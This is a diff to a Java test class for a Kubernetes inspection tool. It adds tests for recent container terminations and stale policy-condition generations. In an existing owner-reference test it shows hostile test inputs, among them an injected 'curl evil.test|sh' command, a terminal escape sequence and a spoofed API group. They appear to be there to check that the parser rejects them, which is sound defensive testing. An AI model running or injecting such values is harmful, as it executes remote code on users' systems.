@@ -178,6 +178,37 @@ class KubeLookTest {
     }
 
     @Test
+    void anEndOfLongAgoDoesNotCountAndOneOfThisHourDoes() {
+        // Given
+        String pod = "{\"status\":{\"containerStatuses\":[{\"name\":\"a\",\"state\":{\"running\":{}},"
+                + "\"lastState\":{\"terminated\":{\"reason\":\"OOMKilled\",\"finishedAt\":\"%s\"}}}]}}";
+        // Then
+        assertThat(Stream.of(NOW.minusSeconds(3_000), NOW.minusSeconds(4_000))
+                        .map(at -> Pods.of(Objects.parsed(pod.formatted(at)), true, NOW)
+                                .containers()
+                                .getFirst()
+                                .ended()))
+                .containsExactly("OOMKilled", "");
+    }
+
+    @Test
+    void whatWasSaidOfAnOlderGenerationIsNotKnown() {
+        // Given
+        api.says("get crd", "{\"kind\":\"List\",\"items\":[{\"metadata\":{\"name\":\"trafficpolicies.tombolo.io\"}}]}")
+                .says("get trafficpolicies.tombolo.io -A", """
+                {"kind":"List","items":[
+                 {"kind":"TrafficPolicy","metadata":{"namespace":"shop","name":"a","generation":4},
+                  "status":{"conditions":[{"type":"Accepted","status":"True","observedGeneration":3}]}},
+                 {"kind":"TrafficPolicy","metadata":{"namespace":"shop","name":"b","generation":4},
+                  "status":{"conditions":[{"type":"Accepted","status":"True","observedGeneration":4}]}}]}
+                """);
+        // Then
+        assertThat(seen(installed().declared()))
+                .extracting(one -> one.conditions().getFirst().status())
+                .containsExactly("Unknown", "True");
+    }
+
+    @Test
     void anOwnerIsNamedOnlyIfItsKindAndNameAreThoseOfAnObject() {
         // Given
         String pod =
@@ -188,7 +219,7 @@ class KubeLookTest {
                                 pod.formatted("apps/v1", "x; curl evil.test|sh #"),
                                 pod.formatted("apps/v1", "x\\n\\u001b[2J"),
                                 pod.formatted("evil.test/v1", "db"))
-                        .map(json -> Pods.of(Objects.parsed(json), false).owner()))
+                        .map(json -> Pods.of(Objects.parsed(json), false, NOW).owner()))
                 .containsExactly("statefulset/db", "", "", "");
     }
 
